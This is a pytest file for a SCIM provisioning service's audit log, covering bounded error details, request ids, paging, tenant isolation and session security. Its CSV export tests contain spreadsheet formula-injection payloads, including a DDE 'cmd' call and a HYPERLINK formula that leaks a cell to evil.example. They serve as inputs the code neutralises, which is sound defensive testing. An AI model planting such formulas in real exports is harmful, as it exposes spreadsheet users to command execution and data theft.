"""What the provisioning log keeps forever is bounded and safe to open; its readers see only
their tenant; the web page's session holds behind a TLS-terminating proxy."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import pytest
import structlog
from aiohttp.test_utils import TestClient, TestServer
from structlog.testing import LogCapture

from infra.config import Settings
from infra.database import Database
from infra.tenants import IssuedToken, create_tenant
from service import middlewares
from service.app import create_app
from tests.test_audit import audit_auth, settled
from tests.test_audit_cli import audit, json_lines
from tests.test_audit_web import audit_token, sign_in
from tests.test_entra_groups import GROUP, create_group, patch_group
from tests.test_entra_users import PATCH_OP, entra_user, headers, patch
from tests.test_entra_users import create as create_user

Client = TestClient[Any, Any]
# A detail of a few hundred characters, with the mark of what was cut ("…[cut 199,800
# characters]…").
DETAIL_CEILING = 500


# --- error details quote a bounded part of the client's input ---------------------------------


def test_bounded_keeps_short_text_and_marks_the_cut() -> None:
    from domain.errors import MAX_DETAIL, InvalidValue, bounded
    from service.errors import ScimError

    assert bounded("short") == "short"
    assert bounded("y" * MAX_DETAIL) == "y" * MAX_DETAIL
    long = "a" * 300 + "b" * 200_000 + "c" * 300
    cut = bounded(long)
    assert len(cut) <= MAX_DETAIL and bounded(cut) == cut  # bounding twice cuts nothing more
    assert cut.startswith("a" * 300) and cut.endswith("c" * 60)
    mark = re.search(r"…\[cut ([\d,]+) characters\]…", cut)
    assert mark is not None
    assert int(mark[1].replace(",", "")) == len(long) - (len(cut) - len(mark[0]))
    # Every way a detail is made: SCIM errors and domain errors alike.
    assert len(ScimError(400, long, "invalidValue").detail) <= DETAIL_CEILING
    assert len(str(ScimError(400, long))) <= DETAIL_CEILING
    assert len(InvalidValue("userName", long).detail) <= DETAIL_CEILING


async def test_error_details_and_the_log_quote_a_bounded_part_of_the_input(
    client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken
) -> None:
    reader = await audit_auth(database)
    user = await create_user(client, auth)
    group = await create_group(client, auth)
    # Below SCIMLEDGER_MAX_STRING_LENGTH (65,536), which refuses longer strings before any echo.
    huge = "x" * 60_000
    refused = [
        # (method, path, operations): each echoes the client's text in its detail.
        ("PATCH", f"/scim/v2/Users/{user['id']}", [{"op": "replace", "path": huge}]),
        ("PATCH", f"/scim/v2/Users/{user['id']}", [{"op": huge, "path": "title"}]),
        (
            "PATCH",
            f"/scim/v2/Users/{user['id']}",
            [{"op": "replace", "path": "active", "value": huge}],
        ),
        (
            "PATCH",
            f"/scim/v2/Groups/{group['id']}",
            [{"op": "replace", "path": huge, "value": "x"}],
        ),
        (
            "PATCH",
            f"/scim/v2/Groups/{group['id']}",
            [{"op": "add", "path": "members", "value": [{"value": huge}]}],
        ),
    ]
    for method, path, operations in refused:
        r = await client.request(
            method,
            path,
            json={"schemas": [PATCH_OP], "Operations": operations},
            headers=headers(auth),
        )
        body = await r.json(content_type=None)
        assert r.status == 400, (path, operations[0], body)
        assert len(body["detail"]) <= DETAIL_CEILING, (operations[0].keys(), len(body["detail"]))
        # Either the input is quoted, cut and marked, or (the PATCH cost budget, the string
        # cap) the refusal names no part of it.
        assert "characters]" in body["detail"] or "xxxxx" not in body["detail"], body["detail"]
    # A filter literal (filters are capped at 4096 characters, details at a few hundred).
    r = await client.get(
        "/scim/v2/Users",
        params={"filter": f'meta.lastModified gt "{"9" * 3000}"'},
        headers=auth,
    )
    body = await r.json(content_type=None)
    assert r.status == 400 and body["scimType"] == "invalidFilter"
    assert len(body["detail"]) <= DETAIL_CEILING and "characters]" in body["detail"]

    await settled(client, reader)
    reasons = await database.pool.fetch(
        "SELECT length(error_reason) AS n, error_reason FROM audit_entries"
        " WHERE status = 'failure' ORDER BY activity_at"
    )
    assert len(reasons) == len(refused)
    for row in reasons:
        reason = row["error_reason"]
        assert row["n"] <= DETAIL_CEILING
        assert reason.count("characters]") == 1 or "xxxxx" not in reason, reason
    # The log's own record of the request (its event) holds no more than the entry shows.
    longest = await database.pool.fetchval(
        "SELECT max(length(state)) FROM stored_events WHERE topic LIKE 'domain.request:%'"
    )
    assert longest < 4 * DETAIL_CEILING


# --- the change id is the server's; the client's request id is kept beside it -----------------


async def test_the_change_id_is_the_servers_and_the_clients_id_is_kept_apart(
    client: Client,
    auth: dict[str, str],
    database: Database,
    tenant: IssuedToken,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    reader = await audit_auth(database)
    # The access log, captured from the middleware's own logger (whatever structlog's global
    # configuration other tests left behind).
    captured = LogCapture()
    monkeypatch.setattr(
        middlewares, "log", structlog.wrap_logger(structlog.ReturnLogger(), processors=[captured])
    )
    replies = []
    for client_id in ("entra-1", "entra-1", "bad id with spaces", "a" * 65, None):
        extra = {"X-Request-Id": client_id} if client_id else {}
        r = await client.post(
            "/scim/v2/Users", json=entra_user(), headers={**headers(auth), **extra}
        )
        assert r.status in (201, 409)
        replies.append((client_id, r.headers["X-Request-Id"]))
    server_ids = [server for _, server in replies]
    assert len(set(server_ids)) == len(server_ids)  # a client cannot collide two changes
    assert all(re.fullmatch(r"[0-9a-f]{32}", s) for s in server_ids)  # nor forge one
    access = [line for line in captured.entries if line["event"] == "request"]
    logged = {line["request_id"]: line.get("client_request_id") for line in access}
    assert logged == {
        server_ids[0]: "entra-1",
        server_ids[1]: "entra-1",
        server_ids[2]: None,  # unsafe characters: not kept
        server_ids[3]: None,  # longer than 64: not kept
        server_ids[4]: None,
    }

    entries = (await settled(client, reader))["entries"]
    by_change = {e["changeId"]: e for e in entries}
    assert set(by_change) == set(server_ids)
    assert [by_change[s]["clientRequestId"] for s in server_ids] == [
        "entra-1",
        "entra-1",
        None,
        None,
        None,
    ]
    stored = await database.pool.fetch("SELECT DISTINCT request_id FROM stored_events")
    assert {r["request_id"] for r in stored} == set(server_ids)
    # The forged id finds nothing as a change id; the export and the web page show both.
    r = await client.get("/audit/v1/entries?changeId=entra-1", headers=reader)
    assert (await r.json())["entries"] == []
    r = await client.get("/audit/v1/export?format=csv", headers=reader)
    rows = list(csv.DictReader(io.StringIO(await r.text())))
    kept = ["entra-1", "entra-1", "", "", ""]
    assert {(row["changeId"], row["clientRequestId"]) for row in rows} == set(
        zip(server_ids, kept, strict=True)
    )
    token = await audit_token(database)
    await sign_in(client, token.token)
    html = await (await client.get(f"/audit/entries/{by_change[server_ids[0]]['id']}")).text()
    assert "entra-1" in html and server_ids[0] in html


async def test_every_reply_carries_its_request_id_streamed_ones_too(
    client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken
) -> None:
    """The reply's X-Request-Id is how a client finds its change: streamed replies (a group
    with its members, an export) carry it too."""
    reader = await audit_auth(database)
    group = await create_group(client, auth)
    r = await client.get(f"/scim/v2/Groups/{group['id']}", headers=auth)
    replies = [r]
    r = await client.get("/audit/v1/export?format=jsonl", headers=reader)
    replies.append(r)
    r = await client.get("/audit/v1/nothing-here", headers=reader)
    replies.append(r)
    for reply in replies:
        await reply.read()
        assert re.fullmatch(r"[0-9a-f]{32}", reply.headers.get("X-Request-Id", "")), reply.url
    r = await client.post(
        "/scim/v2/Groups",
        json={"schemas": [GROUP], "displayName": "Streamed"},
        headers=headers(auth),
    )
    assert r.status == 201
    created = r.headers.get("X-Request-Id")
    entries = (await settled(client, reader))["entries"]
    assert created is not None and created in {e["changeId"] for e in entries}


async def test_the_cli_shows_the_clients_request_id(
    client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken, fresh_dsn: str
) -> None:
    reader = await audit_auth(database)
    r = await client.post(
        "/scim/v2/Users", json=entra_user(), headers={**headers(auth), "X-Request-Id": "idp-42"}
    )
    assert r.status == 201
    [entry] = (await settled(client, reader))["entries"]
    code, out, err = await audit(fresh_dsn, "show", "--tenant", "acme", entry["id"])
    assert code == 0, err
    assert "idp-42" in out and r.headers["X-Request-Id"] in out
    code, out, err = await audit(fresh_dsn, "export", "--tenant", "acme", "--format", "csv")
    assert code == 0, err
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["clientRequestId"] == "idp-42" and row["changeId"] == r.headers["X-Request-Id"]


# --- CSV exports cannot plant a formula in the officer's spreadsheet --------------------------


def test_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    from service.audit_export import CSV_COLUMNS, csv_row, neutralise

    for evil in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(evil) == "'" + evil
    for fine in ("Ada", "", "a=b", " =x", "'=x"):
        assert neutralise(fine) == fine
    assert neutralise(3) == 3 and neutralise(None) is None
    entry = {
        "id": "1",
        "activityDateTime": "2026-01-01T00:00:00Z",
        "changeId": "c",
        "clientRequestId": "-x",
        "provisioningAction": "create",
        "provisioningStatusInfo": {
            "status": "failure",
            "errorInformation": {"errorCode": "InvalidInput", "reason": "=cmd|' /C calc'!A0"},
        },
        "targetIdentity": {"id": None, "displayName": "@evil", "identityType": "User"},
        "sourceIdentity": {"id": "+1", "identityType": "User"},
        "initiatedBy": {"displayName": "=token"},
        "request": {"method": "POST", "path": "/scim/v2/Users", "status": 400},
        "durationInMilliseconds": -1.0,
        "modifiedProperties": [],
    }
    row = dict(zip(CSV_COLUMNS, csv_row(entry), strict=True))
    assert row["clientRequestId"] == "'-x" and row["reason"] == "'=cmd|' /C calc'!A0"
    assert row["targetDisplayName"] == "'@evil" and row["sourceId"] == "'+1"
    assert row["initiatedBy"] == "'=token" and row["durationInMilliseconds"] == -1.0


async def test_every_csv_export_neutralises_formulas(
    client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken, fresh_dsn: str
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await create_user(client, auth, user_name=formula, external_id="+1-555")
    reader = await audit_auth(database)
    await settled(client, reader)

    def check(text: str) -> None:
        [row] = list(csv.DictReader(io.StringIO(text, newline="")))
        assert row["targetDisplayName"] == "'" + formula
        assert row["sourceId"] == "'+1-555"

    r = await client.get("/audit/v1/export?format=csv", headers=reader)
    check(await r.text())
    code, out, err = await audit(fresh_dsn, "export", "--tenant", "acme", "--format", "csv")
    assert code == 0, err
    check(out)
    token = await audit_token(database)
    await sign_in(client, token.token)
    r = await client.get("/audit/export?format=csv&range=all")
    check(await r.text())
    # JSON lines keep the value as it is: it is data, not a cell.
    r = await client.get("/audit/v1/export?format=jsonl", headers=reader)
    assert json.loads(await r.text())["targetIdentity"]["displayName"] == formula


# --- a resource's history comes a page at a time -----------------------------------------------


async def test_history_is_paged_in_the_api_the_web_page_and_the_cli(
    client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken, fresh_dsn: str
) -> None:
    reader = await audit_auth(database)
    user = await create_user(client, auth)
    for i in range(4):
        await patch(
            client, auth, user["id"], {"op": "replace", "path": "title", "value": f"title {i}"}
        )
    await settled(client, reader)
    url = f"/audit/v1/resources/{user['id']}/history"
    r = await client.get(url, headers=reader)
    everything = (await r.json())["entries"]
    assert [e["provisioningAction"] for e in everything] == ["create"] + ["update"] * 4

    seen: list[str] = []
    token: str | None = None
    pages = 0
    while True:
        r = await client.get(
            url, params={"limit": "2", **({"next": token} if token else {})}, headers=reader
        )
        assert r.status == 200, await r.text()
        body = await r.json()
        assert len(body["entries"]) <= 2
        seen += [e["id"] for e in body["entries"]]
        token = body["next"]
        pages += 1
        if token is None:
            break
    assert seen == [e["id"] for e in everything] and pages == 3  # oldest first, each once
    for bad in ({"limit": "x"}, {"next": "%%%"}):
        r = await client.get(url, params=bad, headers=reader)
        assert r.status == 400 and (await r.json())["scimType"] == "invalidValue"
    r = await client.get(url, params={"limit": "1000000"}, headers=reader)
    assert r.status == 200 and len((await r.json())["entries"]) == 5  # capped, not refused

    # The web page: a page of entries and a link to the next.
    officer = await audit_token(database)
    await sign_in(client, officer.token)
    page_url: str | None = f"/audit/resources/{user['id']}?limit=2"
    rows = 0
    while page_url:
        html = await (await client.get(page_url)).text()
        rows += html.count("<tr data-status")
        assert html.count("<tr data-status") <= 2
        found = re.search(r'rel="next" href="([^"]+)"', html)
        page_url = found.group(1).replace("&amp;", "&") if found else None
    assert rows == 5

    # The CLI: --limit and --next, as `audit list`.
    code, out, err = await audit(
        fresh_dsn, "history", "--tenant", "acme", user["id"], "--json", "--limit", "3"
    )
    assert code == 0, err
    first = json_lines(out)
    assert [e["id"] for e in first[:3]] == seen[:3] and set(first[3]) == {"next"}
    code, out, err = await audit(
        fresh_dsn,
        "history",
        "--tenant",
        "acme",
        user["id"],
        "--json",
        "--limit",
        "3",
        "--next",
        first[3]["next"],
    )
    assert code == 0, err
    assert [e["id"] for e in json_lines(out)] == seen[3:]


# --- time travel checks the tenant first and replays a bounded stream --------------------------


@pytest.fixture
async def capped_client(
    settings: Settings, database: Database
) -> AsyncIterator[TestClient[object, object]]:
    app = create_app(dataclasses.replace(settings, max_replay_events=3), database)
    async with TestClient(TestServer(app, host="127.0.0.1")) as c:
        yield c


async def test_time_travel_checks_the_tenant_first_and_bounds_the_replay(
    capped_client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken
) -> None:
    client = capped_client
    reader = await audit_auth(database)
    user = await create_user(client, auth)
    created = datetime.now(UTC).isoformat()
    for i in range(4):  # five events in all, over the cap of three
        await patch(client, auth, user["id"], {"op": "replace", "path": "title", "value": str(i)})
    url = f"/audit/v1/resources/{user['id']}"
    now = datetime.now(UTC).isoformat()
    r = await client.get(url, params={"at": now}, headers=reader)
    body = await r.json(content_type=None)
    assert r.status == 400 and body["scimType"] == "tooMany", body
    assert "3" in body["detail"]
    r = await client.get(url, params={"at": created}, headers=reader)
    assert r.status == 200, await r.text()
    assert (await r.json())["userName"] == "Test_User@contoso.com"

    # Another tenant's reader: 404, before any replay (not the cap's 400).
    async with database.pool.acquire() as conn:
        await create_tenant(conn, "fabrikam")
    other = await audit_auth(database, "fabrikam")
    r = await client.get(url, params={"at": now}, headers=other)
    assert r.status == 404


async def test_member_types_never_resolve_across_tenants(
    client: Client, auth: dict[str, str], database: Database, tenant: IssuedToken
) -> None:
    reader = await audit_auth(database)
    user = await create_user(client, auth)
    group = await create_group(client, auth)
    await patch_group(
        client,
        auth,
        group["id"],
        {"op": "add", "path": "members", "value": [{"value": user["id"]}]},
    )
    await settled(client, reader)
    # Tenant B holds a group under the same id as tenant A's member (ids are unique per tenant).
    async with database.pool.acquire() as conn:
        other = await create_tenant(conn, "fabrikam")
        await conn.execute(
            "INSERT INTO audit_resources (tenant_id, id, type, version, state, created, modified)"
            " VALUES ($1, $2, 'Group', 1, '{\"displayName\": \"B\"}', now(), now())",
            other.tenant_id,
            uuid.UUID(user["id"]),
        )
    r = await client.get(
        f"/audit/v1/resources/{group['id']}",
        params={"at": datetime.now(UTC).isoformat()},
        headers=reader,
    )
    assert r.status == 200, await r.text()
    [member] = (await r.json())["members"]
    assert member["value"] == user["id"] and member["type"] == "User"
    assert "/Users/" in member["$ref"]


# --- the web page behind a TLS-terminating proxy -----------------------------------------------


async def test_the_session_cookie_is_secure_behind_an_https_public_url(
    settings: Settings, client: Client, database: Database, tenant: IssuedToken
) -> None:
    token = await audit_token(database)
    r = await client.post("/audit/sign-in", data={"token": token.token}, allow_redirects=False)
    assert r.status == 303 and "Secure" not in r.headers["Set-Cookie"]  # plain HTTP, no proxy

    behind = dataclasses.replace(settings, public_url="https://scim.example.com/scim/v2")
    app = create_app(behind, database)
    async with TestClient(TestServer(app, host="127.0.0.1")) as proxied:
        r = await proxied.post("/audit/sign-in", data={"token": token.token}, allow_redirects=False)
        assert r.status == 303
        assert "Secure" in r.headers["Set-Cookie"], r.headers["Set-Cookie"]
        # The proxy's public origin is this site's own.
        r = await proxied.post(
            "/audit/sign-in",
            data={"token": token.token},
            headers={"Origin": "https://scim.example.com"},
            allow_redirects=False,
        )
        assert r.status == 303


async def test_origin_null_is_refused_and_sign_out_is_post_only(
    client: Client, database: Database, tenant: IssuedToken
) -> None:
    token = await audit_token(database)
    r = await client.post(
        "/audit/sign-in",
        data={"token": token.token},
        headers={"Origin": "null"},
        allow_redirects=False,
    )
    assert r.status == 403 and "Set-Cookie" not in r.headers
    assert await database.pool.fetchval("SELECT count(*) FROM audit_sessions") == 0

    await sign_in(client, token.token)
    r = await client.get("/audit/sign-out", allow_redirects=False)
    assert r.status == 405
    assert await database.pool.fetchval("SELECT count(*) FROM audit_sessions") == 1
    assert "<h1>Provisioning log</h1>" in await (await client.get("/audit/")).text()
    r = await client.post("/audit/sign-out", headers={"Origin": "null"}, allow_redirects=False)
    assert r.status == 403
    r = await client.post("/audit/sign-out", allow_redirects=False)
    assert r.status == 303
    assert await database.pool.fetchval("SELECT count(*) FROM audit_sessions") == 0
